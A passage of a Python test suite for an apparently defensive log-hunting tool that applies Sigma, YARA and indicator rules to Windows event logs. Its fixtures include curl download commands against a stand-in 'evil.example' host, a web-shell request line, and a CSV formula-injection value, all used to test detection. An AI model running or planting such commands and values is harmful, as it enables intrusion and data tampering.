    spray.write_text(spray.read_text().replace("    generate: true\n", ""))  # Sigma's default: false
    hunt([evidence], [rules], tmp_path / "case", jobs=1)
    titles = sorted(r.title for r in read_findings(tmp_path / "case" / "findings.parquet"))
    assert titles == ["Cmd", "Password spraying", "Whoami"]


def test_a_failed_hunt_leaves_no_new_case_folder_behind(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    write_jsonl(logs / "a.jsonl", [win_event(1, SYSMON, {"Image": "C:\\x.exe"})])
    case = tmp_path / "new-case"
    result = CliRunner().invoke(
        app, ["hunt", str(logs), "--rules", str(tmp_path / "nosuch"), "--case", str(case)]
    )
    assert result.exit_code == 2 and not case.exists()
    # An existing case folder is kept (with what it held) when a hunt into it fails.
    kept = tmp_path / "kept"
    kept.mkdir()
    result = CliRunner().invoke(
        app, ["hunt", str(logs), "--rules", str(tmp_path / "nosuch"), "--case", str(kept)]
    )
    assert result.exit_code == 2 and kept.is_dir()


def test_an_unknown_minimum_level_is_refused_before_reading_evidence(tmp_path: Path) -> None:
    from unmask.errors import ConfigError

    with pytest.raises(ConfigError, match="minimum level 'severe'"):
        hunt([tmp_path / "nothing"], [tmp_path / "rules"], tmp_path / "case", min_level="severe")


def test_an_indicator_seen_on_a_host_and_in_a_hostless_log_is_no_one_hosts(tmp_path: Path) -> None:
    folder = tmp_path / "ev"
    write_jsonl(
        folder / "sysmon.jsonl", [win_event(3, SYSMON, {"DestinationIp": "5.6.7.8"}, computer="ws07")]
    )
    (folder / "access.log").write_text(
        '5.6.7.8 - - [03/Mar/2024:10:40:00 +0000] "GET /shell.php HTTP/1.1" 200 5 "-" "curl/8"\n'
    )
    iocs = tmp_path / "iocs.txt"
    iocs.write_text("5.6.7.8\n")
    (tmp_path / "rules").mkdir()
    result = hunt([folder], [tmp_path / "rules"], tmp_path / "case", jobs=1, iocs=[iocs])
    [observation] = [o for o in result.case.observations if o.value == "5.6.7.8"]
    assert observation.host is None  # not ws07's: the web server's log names no host


def _row(title: str, software: tuple[str, ...] = ()) -> FindingRow:
    return FindingRow(
        "r1", title, "high", ("attack.t1219",), software, "2024-01-01T00:00:00Z", "h1", "f", "0", "1"
    )


def test_software_a_rule_title_names_becomes_an_observation(sources_kb: KnowledgeBase) -> None:
    lexicon = Lexicon.from_kb(sources_kb)
    named = {
        "HackTool - Mimikatz Execution": "S0002",
        "Remote Access Tool - AnyDesk Execution": "tidal:AnyDesk",
        "Shamoon Wiper Activity": "malpedia:Shamoon",
        # Two tools: which one ran is not known.
        "Mimikatz or AnyDesk Execution": None,
        "Potential Mimikatz/AnyDesk Activity": None,
        # Where Sigma's titles put a tool's name, an English word is that tool's name.
        "PUA - Level Execution": "tidal:Level",
        # ... but not a malware family's ("HackTool - Hydra" is no Android banker).
        "HackTool - Shamoon Execution": None,
        # A title's capitalised English word is no name; nor a synonym only Malpedia gives.
        "Rar Usage with Password and Compression Level": None,
        "Disttrack Activity": None,
        # The product a rule sees exploited is the victim's, not the attacker's tool.
        "CVE-2024-1709 - AnyDesk Authentication Bypass Exploitation": None,
        "AnyDesk Server Exploitation Attempt": None,
        # The title's subject is the malware its kind word follows.
        "Triple Cross eBPF Rootkit Default Shamoon": None,
        "Shamoon Wiper Activity Via Mimikatz": None,
        # A hedged tool may not have run; a tool a hedged activity ran through did.
        "Potential Mimikatz Service Installations": None,
        "HackTool - Possible AnyDesk Lateral Movement": None,
        "Potential Credential Dumping Via Mimikatz": "S0002",
        "Remote Access Tool - AnyDesk Potential Suspicious Command": "tidal:AnyDesk",
    }
    for title, expected in named.items():
        assert lexicon.software_in_title(title, sources_kb) == expected, title
    rows = [
        _row("Remote Access Tool - AnyDesk Execution"),
        _row("PsExec Service", software=("S0029",)),
        _row("New Firewall Rule Added Via Netsh.EXE", software=("S0246",)),
    ]

    def titled(title: str) -> tuple[str, ...]:
        return ("AnyDesk",) if "AnyDesk" in title else ("S0029",) if "PsExec" in title else ()

    left_out: list[str] = []
    found = observations_from_findings(rows, named=titled, left_out=left_out)
    software = {o.value: o.provenance.method for o in found if o.kind is ObservationKind.SOFTWARE}
    # The title's software is marked as read from the title, or from the tag when the tag says it too.
    # A software tag the title does not name is the rule author's context (HARDRAIN also adds
    # firewall rules), not the software seen: left out, and said.
    assert software == {"AnyDesk": "rule-title", "S0029": "rule-tag"}
    assert left_out == [
        "software S0246, tagged on rules whose title does not name it (New Firewall Rule Added Via Netsh.EXE)"
    ]
    # Without a knowledge base to read titles, the tags are all there is.
    assert {o.value for o in observations_from_findings(rows) if o.kind is ObservationKind.SOFTWARE} == {
        "S0029",
        "S0246",
    }


def test_one_event_two_rules_read_as_two_families_is_no_evidence_of_either_in_full() -> None:
    rows = [_row("Pikabot Fake DLL Extension Execution"), _row("Qakbot Rundll32 Fake DLL Extension")]
    found = {
        o.value: o.confidence
        for o in observations_from_findings(rows, named=lambda title: (title.split()[0],))
        if o.kind is ObservationKind.SOFTWARE
    }
    assert found == {"Pikabot": 0.4, "Qakbot": 0.4}  # one high event, one family of two: each half
    # A file YARA matched can hold several programs: each match is an event of its own.
    scanned = [
        replace(_row("Cobalt Strike beacon"), rule_id="yara:a.yar:CS", record=""),
        replace(_row("Mimikatz strings"), rule_id="yara:a.yar:MK", record=""),
    ]
    assert {o.confidence for o in observations_from_findings(scanned, named=lambda t: (t.split()[0],))
            if o.kind is ObservationKind.SOFTWARE} == {0.8}  # fmt: skip
    # The same family from two rules on one event is that family in full.
    same = [_row("Pikabot Fake DLL Extension Execution"), _row("Pikabot Rundll32 Activity")]
    assert {o.confidence for o in observations_from_findings(same, named=lambda t: ("Pikabot",))
            if o.kind is ObservationKind.SOFTWARE} == {0.8}  # fmt: skip


def test_a_rule_of_many_techniques_shares_its_belief_and_resource_development_is_not_seen() -> None:
    many = replace(
        _row("Potential Suspicious Activity Using SeCEdit"),
        techniques=("T1082", "T1557", "T1564.002", "T1574.007", "T1505.005", "T1588.002"),
    )
    few = replace(_row("Whoami"), techniques=("T1033",))
    found = {o.value: o.confidence for o in observations_from_findings([many, few])}
    assert "T1588.002" not in found  # obtaining a tool happened before the intrusion, in no log of it
    assert found["T1033"] == 0.8  # a high rule of one technique: believed as its level says
    assert found["T1557"] == pytest.approx(0.8 * 3 / 5)  # five techniques share the belief of one rule


def test_exported_findings_give_the_software_a_rule_title_names(
    sources_kb: KnowledgeBase, evidence: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "titled"
    write_rule(
        folder,
        "mimikatz",
        rule(
            "aaaaaaaa-0000-0000-0000-000000000009",
            "HackTool - Mimikatz Execution",
            PROC,
            "    sel:\n        Image|endswith: '\\whoami.exe'\n    condition: sel",
            tags="attack.t1003",
        ),
    )
    case = tmp_path / "case"
    assert (
        runner.invoke(app, ["hunt", str(evidence), "--rules", str(folder), "--case", str(case)]).exit_code
        == 0
    )
    out = runner.invoke(app, ["findings", str(case), "--format", "jsonl"])
    assert out.exit_code == 0, out.output
    (row,) = [json.loads(line) for line in out.stdout.splitlines()]
    # No attack.sNNNN tag: the rule's software is read from its title, in a column of its own.
    assert row["software"] == [] and row["title_software"] == ["S0002"]
    table = list(
        csv.DictReader(io.StringIO(runner.invoke(app, ["findings", str(case), "--format", "csv"]).stdout))
    )
    assert table[0]["title_software"] == "S0002"


def test_an_unknown_time_zone_is_refused_before_the_evidence_is_read(tmp_path: Path) -> None:
    result = runner.invoke(
        app,
        [
            "hunt",
            str(tmp_path),
            "--rules",
            str(tmp_path),
            "--timezone",
            "Mars/Olympus",
            "--case",
            str(tmp_path / "c"),
        ],
    )
    assert result.exit_code == 2 and "time zone 'Mars/Olympus' is not known" in result.stderr
    assert not (tmp_path / "c").exists()


def test_a_hunt_with_no_usable_rule_is_an_error_not_a_clean_result(tmp_path: Path) -> None:
    evidence = tmp_path / "e.csv"
    evidence.write_text("EventID,Channel,Image\n1,Microsoft-Windows-Sysmon/Operational,C:\\x.exe\n")
    table = tmp_path / "rules.yml"
    table.write_text("- a\n- b\n")  # YAML, but not a rule
    result = runner.invoke(app, ["hunt", str(evidence), "--rules", str(table), "--case", str(tmp_path / "c")])
    assert result.exit_code == 2
    said = " ".join(result.output.split())
    assert "a rule is a YAML mapping of title:, logsource:, detection:" in said
    assert "no Sigma rule could be used" in said and (tmp_path / "c" / "hunt.json").is_file()


def test_the_timeline_says_how_many_findings_its_level_leaves_out(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    case = tmp_path / "case"
    assert (
        runner.invoke(app, ["hunt", str(evidence), "--rules", str(rules), "--case", str(case)]).exit_code == 0
    )
    every = runner.invoke(app, ["timeline", str(case), "--min-level", "informational", "--format", "jsonl"])
    total = len(every.stdout.splitlines())
    high = runner.invoke(app, ["timeline", str(case), "--min-level", "high", "--format", "jsonl"])
    shown = len(high.stdout.splitlines())
    table = runner.invoke(app, ["timeline", str(case), "--min-level", "high"])
    assert table.exit_code == 0 and 0 < shown < total
    assert f"{total - shown} finding(s) below --min-level high not shown" in " ".join(table.stderr.split())
    assert (
        "below --min-level"
        not in runner.invoke(app, ["timeline", str(case), "--min-level", "informational"]).stderr
    )
    assert f"{total - shown} finding(s) below --min-level high" in " ".join(high.stderr.split())  # jsonl too


def test_a_mistyped_rules_path_is_refused_before_the_evidence_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import unmask.detect.hunt as hunt_module

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("the evidence was read")

    monkeypatch.setattr(hunt_module, "ingest", never)
    evidence = tmp_path / "e.jsonl"
    evidence.write_text("{}\n")
    for option in ("--rules", "--yara", "--iocs"):
        extra = [] if option == "--rules" else ["--rules", str(tmp_path)]
        result = runner.invoke(
            app,
            ["hunt", str(evidence), *extra, option, str(tmp_path / "typo"), "--case", str(tmp_path / "c")],
        )
        assert result.exit_code == 2 and "typo does not exist" in " ".join(result.stderr.split()), option


def test_findings_are_written_in_the_format_the_file_name_says(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    case = tmp_path / "case"
    assert (
        runner.invoke(app, ["hunt", str(evidence), "--rules", str(rules), "--case", str(case)]).exit_code == 0
    )
    assert runner.invoke(app, ["findings", str(case), "-o", str(tmp_path / "f.csv")]).exit_code == 0
    assert (tmp_path / "f.csv").read_text().startswith("rule_id,title,")
    assert runner.invoke(app, ["findings", str(case), "-o", str(tmp_path / "f.parquet")]).exit_code == 0
    assert (tmp_path / "f.parquet").read_bytes()[:4] == b"PAR1"
    refused = runner.invoke(app, ["findings", str(case), "-o", str(tmp_path / "f.xlsx")])
    assert refused.exit_code == 2 and not (tmp_path / "f.xlsx").exists()


def test_hunting_again_replaces_every_observation_a_hunt_made() -> None:
    from unmask.detect.hunt import _carry_over
    from unmask.model import Case, Observation, ObservationKind, Provenance

    def obs(value: str, method: str | None, source: str) -> Observation:
        return Observation(
            ObservationKind.SOFTWARE, value, provenance=Provenance(source=source, method=method)
        )

    methods = ("rule-tag", "rule-title", "flagged-event", "ioc-match", "yara-match")
    earlier = Case("c", "c", observations=[obs(m, m, "old.evtx") for m in methods])
    earlier.observations.append(obs("Rclone", None, "advisory.txt"))
    earlier.evidence = {"old.evtx": "a" * 64, "advisory.txt": "b" * 64}
    case = Case("c", "c", evidence={"new.evtx": "c" * 64})
    assert _carry_over(case, earlier) == ["old.evtx"]
    assert [o.value for o in case.observations] == ["Rclone"]
    assert set(case.evidence) == {"new.evtx", "advisory.txt"}


def test_indicator_lists_lose_no_value_to_a_bad_neighbour(tmp_path: Path) -> None:
    from unmask.detect.indicators import load_indicators

    values = tmp_path / "values.json"
    values.write_text('["1.2.3.4", "evil2.com", 5]')
    found = load_indicators(values)
    assert [i.value for i in found.indicators] == ["1.2.3.4", "evil2.com"] and found.skipped == 1
    assert found.problems == [f"{values}:item 2: '5' is not a value; skipped"]
    other = tmp_path / "case.json"
    other.write_text('{"id": "x", "observations": []}')
    assert (
        "neither a STIX 2.1 bundle, a MISP event nor a list of values" in load_indicators(other).problems[0]
    )
    # A quote left open closes with its line instead of swallowing the values after it.
    table = tmp_path / "q.csv"
    table.write_text('value,type\n"1.2.3.4",ip\n"evil.com,domain\n5.6.7.8,ip\n')
    found = load_indicators(table)
    assert [i.value for i in found.indicators] == ["1.2.3.4", "evil.com", "5.6.7.8"]
    assert f"{table}:line 3: a quote left open; read without it" in found.problems


def test_a_hunt_over_nothing_readable_is_an_error_not_a_clean_result(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from unmask.cli import app

    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "r.yml").write_text(
        "title: t\nid: 3c3a5a8e-1111-4111-8111-111111111111\nlogsource: {product: windows}\n"
        "detection: {sel: {EventID: 1}, condition: sel}\n"
    )
    empty, junk = tmp_path / "empty", tmp_path / "junk"
    empty.mkdir()
    junk.mkdir()
    (junk / "fake.evtx").write_bytes(b"ElfFile\x00" + bytes(range(256)) * 8)
    (junk / "garbage.json").write_bytes(b"\x00\x01 not json")
    for folder, said in ((empty, "no evidence files were found"), (junk, "no evidence file could be read")):
        result = CliRunner().invoke(
            app, ["hunt", str(folder), "--rules", str(rules), "--case", str(tmp_path / folder.name / "c")]
        )
        assert result.exit_code == 2 and said in result.stderr, result.output


def test_a_hunt_that_only_yara_could_read_is_a_hunt(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from unmask.cli import app

    evidence = tmp_path / "ev"
    evidence.mkdir()
    (evidence / "dropper.bin").write_bytes(b"MZ\x90\x00 HOMELANDJUSTICE-WIPER \x00\x01")
    yara = tmp_path / "yara"
    yara.mkdir()
    (yara / "w.yar").write_text('rule W {\n strings:\n  $a = "HOMELANDJUSTICE-WIPER"\n condition:\n  $a\n}\n')
    sigma = tmp_path / "sigma"
    sigma.mkdir()
    (sigma / "r.yml").write_text(
        "title: t\nid: 3c3a5a8e-2222-4111-8111-111111111111\nlogsource: {product: windows}\n"
        "detection: {sel: {EventID: 1}, condition: sel}\n"
    )
    args = ["hunt", str(evidence), "--rules", str(sigma), "--yara", str(yara), "--case", str(tmp_path / "c")]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output


def test_a_share_access_finding_says_which_share_and_file(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    evidence.mkdir()
    event = {
        "EventID": 5145, "Channel": "Security", "Computer": "dc01", "TimeCreated": "2024-03-01T10:00:00Z",
        "SubjectUserName": "admin", "IpAddress": "10.0.0.5", "ShareName": "\\\\*\\IPC$",
        "RelativeTargetName": "svcctl",
    }  # fmt: skip
    write_jsonl(evidence / "security.jsonl", [event])
    folder = tmp_path / "rules"
    write_rule(
        folder,
        "pipe",
        rule("aaaaaaaa-0000-0000-0000-0000000000aa", "Remote service pipe", SECURITY,
             "    sel:\n        EventID: 5145\n        RelativeTargetName: svcctl\n    condition: sel"),
    )  # fmt: skip
    hunt([evidence], [folder], tmp_path / "case", jobs=1)
    [row] = read_findings(tmp_path / "case" / "findings.parquet")
    assert (
        row.detail is not None
        and "ShareName=\\\\*\\IPC$" in row.detail
        and "RelativeTargetName=svcctl" in row.detail
    )


def test_the_rules_a_hunted_observation_names_are_read_back_from_its_provenance() -> None:
    from unmask.detect.findings import rules_named

    rows = [replace(_row(f"Rule {n}"), techniques=("T1033",)) for n in range(5)]
    [found] = observations_from_findings(rows)
    assert found.provenance is not None and found.provenance.text is not None
    assert rules_named(found.provenance.text) == ["Rule 0", "Rule 1", "Rule 2", "…"]
    assert rules_named("from a report") == []


def test_the_hunts_warnings_go_to_stderr_and_its_summary_to_stdout(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    case = tmp_path / "case"
    assert (
        runner.invoke(app, ["hunt", str(evidence), "--rules", str(rules), "--case", str(case)]).exit_code == 0
    )
    other = tmp_path / "other" / "one.jsonl"
    write_jsonl(other, [win_event(1, SYSMON, process("C:\\x\\a.exe", "a.exe"), computer="ws09")])
    again = runner.invoke(app, ["hunt", str(other), "--rules", str(rules), "--case", str(case)])
    assert again.exit_code == 0, again.output
    assert "replaced the case's earlier hunt over 2 other evidence files" in " ".join(again.stderr.split())
    assert "replaced" not in again.stdout and "rule: " not in again.stdout  # broken.yml: on stderr
    assert "rule: " in again.stderr and "1 event (windows 1)" in again.stdout


def test_a_closed_pipe_ends_a_command_quietly_with_141(monkeypatch: pytest.MonkeyPatch) -> None:
    import typer

    from unmask.cli import common

    class ClosedPipe(io.StringIO):  # `| head -1` has read its line and gone
        def write(self, text: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(common, "_drop_stdout", lambda: None)  # the test's own output stays
    closed = type(common.console)(file=ClosedPipe())  # the console every command prints with

    @common.user_errors
    def summary() -> None:
        closed.print("1,630 events (windows 1,630) from 85 files; 0 records skipped")

    with pytest.raises(typer.Exit) as info:
        summary()
    assert info.value.exit_code == 141 and closed.quiet


def test_unusable_indicators_are_reported_with_their_lines(rules: Path, tmp_path: Path) -> None:
    folder = tmp_path / "ev"
    write_jsonl(
        folder / "sysmon.jsonl", [win_event(3, SYSMON, {"DestinationIp": "5.6.7.8"}, computer="ws07")]
    )
    partner = tmp_path / "partner.csv"
    partner.write_text("value,type\n5.6.7.8,ip\n" + "".join(f"not-an-indicator {n}!!,\n" for n in range(8)))
    result = runner.invoke(
        app,
        ["hunt", str(folder), "--rules", str(rules), "--iocs", str(partner), "--case", str(tmp_path / "c")],
    )
    assert result.exit_code == 0, result.output
    assert "8 unusable" in " ".join(result.stdout.split())
    warned = [line for line in result.stderr.splitlines() if "usable indicator" in line]
    assert len(warned) == 5 and warned[0].startswith(f"warning: {partner}:line 3: 'not-an-indicator 0!!'")
    assert "... 3 more indicator problems in" in result.stderr


def test_a_timeline_of_a_host_no_finding_has_says_which_hosts_have_findings(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    case = tmp_path / "case"
    hunt([evidence], [rules], case, jobs=1)
    none = runner.invoke(app, ["timeline", str(case), "--host", "ws"])
    assert none.exit_code == 0 and "(0 findings)" in none.stdout
    note = " ".join(none.stderr.split())
    assert "no finding has the host 'ws' (host names are compared ignoring case)" in note
    # The names that hold what was given first, then the hosts with the most findings.
    assert "hosts with findings: ws01 (1), ws02 (1), dc01 (6)" in note
    jsonl = runner.invoke(app, ["timeline", str(case), "--host", "nope", "--format", "jsonl"])
    assert jsonl.stdout == "" and "hosts with findings: dc01" in jsonl.stderr
    # Host names are compared ignoring case (Windows' are case-insensitive); a host with findings
    # only below --min-level gets the count of those, not this note.
    same = runner.invoke(app, ["timeline", str(case), "--host", "WS01", "--format", "jsonl"])
    assert [json.loads(line)["host"] for line in same.stdout.splitlines()] == ["ws01"]
    below = runner.invoke(app, ["timeline", str(case), "--host", "ws02", "--min-level", "high"])
    assert "below --min-level high" in below.stderr and "no finding has the host" not in below.stderr


def test_a_lone_surrogate_in_a_rule_title_is_replaced_not_a_failed_hunt(tmp_path: Path) -> None:
    evidence = write_jsonl(
        tmp_path / "ev" / "s.jsonl", [win_event(1, SYSMON, process("C:\\x\\cmd.exe", "cmd"))]
    )
    folder = tmp_path / "rules"
    # Double-quoted YAML, as JSON, can escape half of a UTF-16 pair: Parquet and UTF-8 cannot hold it.
    body = rule(
        "aaaaaaaa-0000-0000-0000-00000000000a",
        '"Odd \\ud800 title"',
        PROC,
        "    sel:\n        Image|endswith: cmd.exe\n    condition: sel",
        tags="attack.t1059",
    )
    write_rule(folder, "odd", body.replace("status: test", 'status: test\ndescription: "d \\udfff"'))
    result = hunt([evidence], [folder], tmp_path / "case", jobs=1)
    assert [r.title for r in read_findings(tmp_path / "case" / "findings.parquet")] == ["Odd \ufffd title"]
    assert not result.rules.problems
    load_case(tmp_path / "case")  # case.json was written and reads back


def test_a_hunt_into_a_case_another_run_holds_is_refused_and_the_case_kept(
    evidence: Path, rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from unmask.cases import directory

    case = tmp_path / "case"
    hunt([evidence], [rules], case, jobs=1)
    before = (case / "case.json").read_bytes()
    monkeypatch.setattr(directory, "LOCK_WAIT_SECONDS", 0.2)
    # An extract into the case, or another hunt, is running.
    with directory.case_lock(case), pytest.raises(CaseError, match="in use by another unmask run"):
        hunt([evidence], [rules], case, jobs=1)
    assert (case / "case.json").read_bytes() == before and not list(case.glob(".hunt-*"))


def test_each_document_of_a_rule_file_loads_alone_and_a_range_condition_holds_both_bounds(
    tmp_path: Path,
) -> None:
    # Failed logons per user from distinct workstations: ann 1, bob 2, cat 3 (within a minute).
    seen = [("ann", "W1"), ("bob", "W1"), ("bob", "W2"), ("cat", "W1"), ("cat", "W2"), ("cat", "W3")]
    events = [
        win_event(
            4625,
            "Security",
            {"TargetUserName": user, "WorkstationName": ws},
            time=f"2024-03-01T11:00:{i:02d}Z",
            record=i + 1,
        )
        for i, (user, ws) in enumerate(seen)
    ]
    write_jsonl(tmp_path / "ev" / "security.jsonl", events)

    def correlation(n: int, condition: str) -> str:
        return (
            f"title: Workstations {n}\nid: cccccccc-0000-0000-0000-00000000000{n}\nlevel: high\n"
            "correlation:\n    type: value_count\n    rules: [failed]\n    group-by: [TargetUserName]\n"
            f"    timespan: 1m\n    condition:\n        field: WorkstationName\n{condition}"
        )

    documents = [
        rule(
            "cccccccc-0000-0000-0000-000000000000",
            "Failed logon",
            SECURITY,
            "    sel:\n        EventID: 4625\n    condition: sel",
        ).replace("status: test", "name: failed\nstatus: test"),
        # the specification's range: "101 to 200" is gt: 100 and lte: 200; here 2 (gte 2, lt 3)
        correlation(1, "        gte: 2\n        lt: 3\n"),
        correlation(2, "        gte: x\n        lt: 3\n"),  # a count that is no number
        correlation(3, "        gt: 2\n"),
    ]
    write_rule(tmp_path / "rules", "all", "\n---\n".join(documents))
    result = hunt([tmp_path / "ev"], [tmp_path / "rules"], tmp_path / "case", jobs=1)
    # The bad document is named (its place, title and id); the others load.
    assert [(p.rule, p.message.split(": ")[0]) for p in result.rules.problems] == [
        (
            "cccccccc-0000-0000-0000-000000000002",
            "document 3 ('Workstations 2', id cccccccc-0000-0000-0000-000000000002)",
        )
    ]
    assert sorted(c.title for c in result.rules.correlations) == ["Workstations 1", "Workstations 3"]
    rows = list(read_findings(tmp_path / "case" / "findings.parquet"))
    fired = sorted((r.title, r.detail.split(" for ")[1].split(" ")[0]) for r in rows if r.detail)
    assert fired == [("Workstations 1", "TargetUserName=bob"), ("Workstations 3", "TargetUserName=cat")]
    assert "(gte 2, lt 3)" in next(r.detail for r in rows if r.title == "Workstations 1")


def test_the_summary_counts_findings_per_rule_not_per_title(tmp_path: Path) -> None:
    events = [
        win_event(1, SYSMON, process("C:\\Windows\\System32\\whoami.exe", "whoami"), record=1),
        win_event(1, SYSMON, process("C:\\Windows\\System32\\cmd.exe", "cmd /c dir"), record=2),
    ]
    write_jsonl(tmp_path / "ev" / "sysmon.jsonl", events)
    for n, value in ((1, "whoami"), (2, "dir")):  # two rules, one title
        detection = f"    sel:\n        CommandLine|contains: {value}\n    condition: sel"
        write_rule(
            tmp_path / "rules",
            f"r{n}",
            rule(f"dddddddd-0000-0000-0000-00000000000{n}", "Same title", PROC, detection),
        )
    hunt = ["hunt", str(tmp_path / "ev"), "--rules", str(tmp_path / "rules"), "--case", str(tmp_path / "c")]
    result = runner.invoke(app, [*hunt, "--json", "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["by_rule"] == {
        "dddddddd-0000-0000-0000-000000000001": {"title": "Same title", "findings": 1},
        "dddddddd-0000-0000-0000-000000000002": {"title": "Same title", "findings": 1},
    }
    table = runner.invoke(app, [*hunt, "--jobs", "1"])
    rows = [line for line in table.stdout.splitlines() if "Same title" in line]
    assert len(rows) == 2 and "dddddddd-0000-0000-0000-000000000002" in "".join(rows)


def test_the_summary_counts_each_indicator_apart() -> None:
    from unmask.detect.findings import FindingRow
    from unmask.detect.hunt import rule_key

    def row(rule_id: str, title: str) -> FindingRow:
        return FindingRow(
            rule_id=rule_id, title=title, level="high", techniques=(), software=(), time=None, host="h",
            file="f", sha256="s", record=1, rule_path="p", detail=None,
        )  # fmt: skip

    # Every address of an indicator file has the rule id ioc:ip: the summary keeps each apart.
    assert rule_key(row("ioc:ip", "Indicator ip 91.238.50.77 (partner-iocs.csv)")) == "ioc:ip:91.238.50.77"
    assert rule_key(row("ioc:ip", "Indicator ip 194.36.189.21 (iocs (2).csv)")) == "ioc:ip:194.36.189.21"
    assert (
        rule_key(row("0d00a1b2-c3d4-4e5f-8a9b-0c1d2e3f4a5b", "Some rule"))
        == "0d00a1b2-c3d4-4e5f-8a9b-0c1d2e3f4a5b"
    )


def test_terminal_tables_clip_a_very_long_value_as_the_reports_do(rules: Path, tmp_path: Path) -> None:
    long_host = "B" * 20_000  # one log field of any length: its cell must not fill the terminal
    events = [
        win_event(1, SYSMON, process("C:\\Windows\\System32\\whoami.exe", "whoami"), computer=long_host),
        win_event(1, SYSMON, process("C:\\Windows\\System32\\whoami.exe", "whoami"), computer="ws01"),
    ]
    write_jsonl(tmp_path / "ev" / "sysmon.jsonl", events)
    case = tmp_path / "case"
    summary = runner.invoke(app, ["hunt", str(tmp_path / "ev"), "--rules", str(rules), "--case", str(case)])
    timeline = runner.invoke(app, ["timeline", str(case)])
    for result in (summary, timeline):
        assert result.exit_code == 0, result.output
        # Its first 300 characters and how long it is; the rows after it are still there.
        assert 300 <= result.stdout.count("B") < 320, result.stdout
        assert "ws01" in result.stdout
    assert "(20,000 characters)" in summary.stdout  # (the timeline's narrow column folds it)


def test_a_url_indicator_holding_a_quote_matches_where_it_stands(tmp_path: Path) -> None:
    urls = [
        "http://evil.example/q'x",
        'http://evil.example/p"q',
        "http://evil.example/a|b",
        "http://evil.example/plain",
    ]
    lines = [f"curl.exe {url} -o x" for url in urls]
    lines += [
        'curl.exe "http://evil.example/q\'x" -o y',  # quoted around it: the same URL
        "curl.exe http://evil.example/q'xyz -o z",  # a longer URL: not this one
        'curl.exe xhttp://evil.example/p"q -o z',  # another scheme: not this one
    ]
    events = [
        win_event(1, SYSMON, process("C:\\x\\curl.exe", line), computer="ws01", record=n)
        for n, line in enumerate(lines, start=1)
    ]
    write_jsonl(tmp_path / "ev" / "sysmon.jsonl", events)
    iocs = tmp_path / "iocs.txt"
    iocs.write_text("\n".join(urls) + "\n")
    (tmp_path / "rules").mkdir()
    result = hunt([tmp_path / "ev"], [tmp_path / "rules"], tmp_path / "case", jobs=1, iocs=[iocs])
    assert result.iocs["matched"] == {
        "http://evil.example/q'x": 2,
        'http://evil.example/p"q': 1,
        "http://evil.example/a|b": 1,
        "http://evil.example/plain": 1,
    }
    rows = [r for r in read_findings(tmp_path / "case" / "findings.parquet") if r.rule_id == "ioc:url"]
    assert sorted(r.record for r in rows) == ["1", "2", "3", "4", "5"]


def test_findings_csv_is_quoted_and_guarded_for_a_semicolon_reader(rules: Path, tmp_path: Path) -> None:
    events = [
        win_event(1, SYSMON, process("C:\\Windows\\System32\\whoami.exe", "whoami"), computer="ws01;=1+1")
    ]
    write_jsonl(tmp_path / "ev" / "sysmon.jsonl", events)
    case = tmp_path / "case"
    assert (
        runner.invoke(
            app, ["hunt", str(tmp_path / "ev"), "--rules", str(rules), "--case", str(case)]
        ).exit_code
        == 0
    )
    target = tmp_path / "f.csv"
    assert runner.invoke(app, ["findings", str(case), "-o", str(target)]).exit_code == 0
    text = target.read_text()
    rows = list(csv.DictReader(io.StringIO(text)))  # Python's reader reads it as written
    assert [row["host"] for row in rows] == ["ws01;'=1+1"]
    assert '"ws01;\'=1+1"' in text  # quoted
    # Read with ";" as the delimiter, no cell starts a formula.
    for line in csv.reader(io.StringIO(text), delimiter=";"):
        assert not any(cell.lstrip('"')[:1] in ("=", "+", "-", "@") for cell in line), line


def test_a_correlation_reads_its_fields_under_the_names_of_the_route_each_hit_matched_on(
    tmp_path: Path,
) -> None:
    # One rundll32 start logged by Sysmon (Image, ParentImage) and one by Security 4688
    # (NewProcessName, ParentProcessName): the rule matches both, and so must the group.
    events = [
        win_event(
            1, SYSMON, process("C:\\Windows\\System32\\rundll32.exe", "rundll32 a.dll"), computer="ws1"
        ),
        win_event(
            4688,
            "Security",
            {
                "NewProcessName": "C:\\Windows\\System32\\rundll32.exe",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                "CommandLine": "rundll32 b.dll",
            },
            time="2024-03-01T10:00:30.000000Z",
            computer="ws2",
        ),
    ]
    write_jsonl(tmp_path / "ev" / "process.jsonl", events)
    base = rule(
        "dddddddd-0000-0000-0000-000000000000",
        "Rundll32",
        PROC,
        "    sel:\n        Image|endswith: '\\rundll32.exe'\n    condition: sel",
    ).replace("status: test", "name: rundll32\nstatus: test")

    def correlation(n: int, kind: str, condition: str) -> str:
        return (
            f"title: Rundll32 {n}\nid: dddddddd-0000-0000-0000-00000000000{n}\nlevel: high\n"
            f"correlation:\n    type: {kind}\n    rules: [rundll32]\n    group-by: [Image]\n"
            f"    timespan: 1m\n    condition:\n{condition}"
        )

    documents = [
        base,
        correlation(1, "event_count", "        gte: 2\n"),
        correlation(2, "value_count", "        field: ParentImage\n        gte: 2\n"),
    ]
    write_rule(tmp_path / "rules", "all", "\n---\n".join(documents))
    hunt([tmp_path / "ev"], [tmp_path / "rules"], tmp_path / "case", jobs=1)
    rows = list(read_findings(tmp_path / "case" / "findings.parquet"))
    assert sorted(r.detail.split(" within")[0] for r in rows if r.detail) == [
        "event_count: 2 events (gte 2)",
        "value_count: 2 distinct ParentImage (gte 2)",
    ]
    assert all("for Image=C:\\Windows\\System32\\rundll32.exe from" in r.detail for r in rows if r.detail)
    # A correlation's finding names the file that gives it, as a rule's does.
    assert {r.rule_path for r in rows} == {str(tmp_path / "rules" / "all.yml")}
